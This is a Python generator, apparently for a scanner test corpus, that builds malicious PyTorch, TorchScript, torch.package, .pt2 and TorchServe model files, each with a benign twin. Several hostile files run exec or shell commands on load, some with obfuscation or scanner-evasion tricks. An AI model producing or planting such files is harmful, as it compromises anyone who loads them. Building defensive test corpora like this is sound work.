"""Files that torch loads."""
import io
import json
import pickle as std
import zipfile

from assembly import Raw, call, glob, pickle, val
from pair import CODE, SHELL

from .shared import floats, tarred, torch_zip, zipped

F = "torch"
MAGIC, PROTO = 0x1950A86A20F9469CFC6C, 1001
SYSTEM = {"protocol_version": PROTO, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def persistent(key="0", n=16):
    return val(("storage", glob("torch", "FloatStorage"), key, "cpu", n))[:] + b"Q"


def tensor(shape=(4, 4), stride=(4, 1)):
    return call(glob("torch._utils", "_rebuild_tensor_v2"), Raw(persistent()), 0, shape, stride, False, call(glob("collections", "OrderedDict")))


def state(extra=None):
    return {"model": {"fc.weight": tensor()}, "epoch": 3, **({"hook": extra} if extra is not None else {})}


def legacy(system: bytes, obj: bytes) -> bytes:
    return std.dumps(MAGIC, 2) + std.dumps(PROTO, 2) + system + obj + std.dumps([], 2)


def graph_module(line: str) -> bytes:
    """A pickled torch.fx.GraphModule: its code is a string that the loader executes."""
    body = {
        "_code": "\n\n\ndef forward(self, x):\n    relu = torch.relu(x);  x = None\n    return relu\n",
        "training": False, "_parameters": {}, "_buffers": {}, "_modules": {}, "_graphmodule_cls_name": "GraphModule",
    }
    block = "import torch\nfrom torch import device\n" + line
    return pickle(val({"encoder": call(glob("torch.fx.graph_module", "reduce_graph_module"), body, block), "epoch": 3}), 2)


def exported(poison: bool) -> bytes:
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.fc = torch.nn.Linear(4, 2)

        def forward(self, x):
            return torch.relu(self.fc(x))

    torch.manual_seed(9)
    buf = io.BytesIO()
    torch.export.save(torch.export.export(Net(), (torch.ones(1, 4),)), buf)
    if not poison:
        return buf.getvalue()
    bad = torch_zip(pickle(val((call(glob("builtins", "exec"), CODE),)), 2))
    members = []
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as z:
        for info in z.infolist():
            members.append((info.filename, bad if "sample_inputs" in info.filename else z.read(info)))
    return zipped(members)


def scripted(poison: bool) -> bytes:
    """TorchScript whose __setstate__ maps (and so makes) a file while it loads."""
    import importlib.util
    import pathlib
    import sys
    import tempfile

    import torch

    line = 'torch.from_file("marker.so", True, 16)' if poison else "torch.zeros([16])"
    source = f"""
import torch
from typing import Tuple

class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.scale = torch.ones(16)

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, bool]:
        return self.scale, self.training

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, bool]) -> None:
        self.scale = state[0] + {line}
        self.training = state[1]

    def forward(self, x):
        return x * self.scale
"""
    with tempfile.TemporaryDirectory() as d:
        path = pathlib.Path(d) / "ninth_scripted.py"
        path.write_text(source)
        spec = importlib.util.spec_from_file_location("ninth_scripted", path)
        module = importlib.util.module_from_spec(spec)
        sys.modules["ninth_scripted"] = module
        spec.loader.exec_module(module)
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(module.Net()), buf)
    return buf.getvalue()


def packaged(line: str, extern=b"torch\n") -> bytes:
    """torch.package: the source of the model travels with it."""
    source = f"import torch\n\nSCALE = 2.0\n{line}\n\n\nclass Head:\n    def __init__(self):\n        self.scale = SCALE\n"
    pkl = b"\x80\x03ctorch_head.head\nHead\n)\x81}X\x05\0\0\0scaleG@\0\0\0\0\0\0\0sb."
    return zipped([
        ("net/.data/extern_modules", extern), ("net/.data/version", b"6\n"), ("net/version", b"3\n"), ("net/byteorder", b"little"),
        ("net/torch_head/__init__.py", b""), ("net/torch_head/head.py", source.encode()), ("net/model/model.pkl", pkl),
        ("net/.data/python_version", b"3.11.7"),
    ])


def tar_checkpoint(extra) -> bytes:
    """The tar layout of torch 0.1.1."""
    import struct

    storages = std.dumps(1, 2) + pickle(("0", "cpu", glob("torch", "FloatStorage")), 2) + struct.pack("<q", 16) + floats(16) + std.dumps([], 2)
    tensors = std.dumps(1, 2) + pickle((1, "0", glob("torch", "FloatTensor")), 2) + struct.pack("<i", 2) + bytes(4) + struct.pack("<qqqq", 4, 4, 4, 1) + struct.pack("<q", 0)
    obj = pickle({"weight": build_persistent("1"), "epoch": 3, **extra}, 2)
    return tarred({"sys_info": std.dumps(SYSTEM, 2), "pickle": obj, "tensors": tensors, "storages": storages})


def build_persistent(key):
    return Raw(val(key) + b"Q")


def add(out):
    def pair(name, hostile, twin, why, prove="ninth-torch", file="checkpoint.pt"):
        out.add(F, name, hostile, twin, prove=prove, file=file, why=why)

    run = call(glob("builtins", "exec"), CODE)
    inner = lambda obj: legacy(std.dumps(SYSTEM, 2), pickle(obj, 2))  # noqa: E731
    storage = lambda obj: pickle({"epoch": 3, "buffer": call(glob("torch.storage", "_load_from_bytes"), inner(obj))}, 2)  # noqa: E731
    pair("load-from-bytes", torch_zip(storage({"w": [0.5], "meta": run})), torch_zip(storage({"w": [0.5], "meta": "ok"})),
         "The bytes of a storage are a second torch file, loaded without weights_only, that calls exec.")
    renamed = lambda obj, pkl: zipped([(f"m/{pkl}", pickle(obj, 2)), ("m/data/0", floats(16)), ("m/version", b"3\n"), ("m/byteorder", b"little")])  # noqa: E731
    pair("upper-case-record", renamed(state(run), "DATA.PKL"), renamed(state(), "data.pkl"),
         "miniz finds records without regard to case: torch loads DATA.PKL where others see no data.pkl.")
    pair("tar-of-torch-0.1", tar_checkpoint({"extra": run}), tar_checkpoint({"extra": "none"}),
         "The tar layout is still read by torch.load; its pickle calls exec.", file="pytorch_model.bin")
    pair("sysinfo-pickle", legacy(pickle({**SYSTEM, "host": run}, 2), pickle({"bias": [0.1, 0.2]}, 2)), legacy(pickle({**SYSTEM, "host": "trainer-3"}, 2), pickle({"bias": [0.1, 0.2]}, 2)),
         "The payload is in the third stacked pickle, the one with the machine's type sizes.", file="model.bin")
    pair("graph-module-import-block", torch_zip(graph_module("__import__('os').system('" + SHELL + "')\n")), torch_zip(graph_module("from torch.nn import *\n")),
         "A pickled fx.GraphModule carries source that the loader executes.")
    pair("export-sample-inputs", exported(True), exported(False),
         "The sample inputs of a .pt2 archive are a pickle of their own. Recent torch loads them with weights_only, older ones without.", file="net.pt2", prove="ninth-pt2")
    pair("script-setstate-maps-file", scripted(True), scripted(False),
         "TorchScript code that runs at load maps a shared file and so creates it: a file write with no pickle.", prove="ninth-jit", file="scripted.pt")
    pair("package-module-source", packaged(f"__import__('subprocess').call('{SHELL}', shell=True)", b"torch\nsubprocess\n"), packaged("DTYPE = torch.float32"),
         "The source inside a torch.package runs when the pickle names its class.", prove="ninth-package", file="net.pt")
    meta = lambda extra: pickle({"state_dict_metadata": {"fc.weight": {"size": [4, 4]}}, "planner_data": extra, "storage_data": {"fc.weight": "__0_0.distcp"}})  # noqa: E731
    pair("distributed-metadata", {".metadata": meta(run), "__0_0.distcp": torch_zip(pickle(tensor(), 2))}, {".metadata": meta({"fc.weight": ["model", "fc", "weight"]}), "__0_0.distcp": torch_zip(pickle(tensor(), 2))},
         "The hidden .metadata of a distributed checkpoint is unpickled as it stands.", prove="ninth-dcp", file=None)
    manifest = json.dumps({"createdOn": "02/06/2025", "runtime": "python", "model": {"modelName": "net", "serializedFile": "net.pt", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.12.0"})
    handler = lambda body: f"import json\n\nfrom ts_stub import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        self.manifest = context\n{body}\n        self.initialized = True\n".replace("from ts_stub import BaseHandler", "try:\n    from ts.torch_handler.base_handler import BaseHandler\nexcept ImportError:\n    BaseHandler = object")  # noqa: E731
    mar = lambda body: zipped({"MAR-INF/MANIFEST.json": manifest.encode(), "handler.py": handler(body).encode(), "net.pt": torch_zip(pickle(state(), 2))}, zipfile.ZIP_DEFLATED)  # noqa: E731
    pair("mar-handler-reads-weights", mar("        import zipfile\n        note = zipfile.ZipFile('net.mar').read('MAR-INF/MANIFEST.json')\n        getattr(__import__('o' + 's'), 'system')('" + SHELL + "' if note else '')"),
         mar("        self.labels = json.dumps({'0': 'cat', '1': 'dog'})"),
         "The handler of a TorchServe archive starts a shell as soon as the server initialises it.", prove="ninth-mar", file="net.mar")
    rebuild = lambda f, *a: torch_zip(pickle({"weight": call(glob("torch._tensor", "_rebuild_from_type_v2"), f, glob("torch", "Tensor"), a, {})}, 2))  # noqa: E731
    pair("rebuild-from-type-runs", rebuild(glob("torch.utils.collect_env", "run"), SHELL),
         rebuild(glob("torch._utils", "_rebuild_tensor_v2"), Raw(persistent()), 0, (4, 4), (4, 1), False, call(glob("collections", "OrderedDict"))),
         "torch's own rebuild helper applies a function of torch that runs a shell command.")

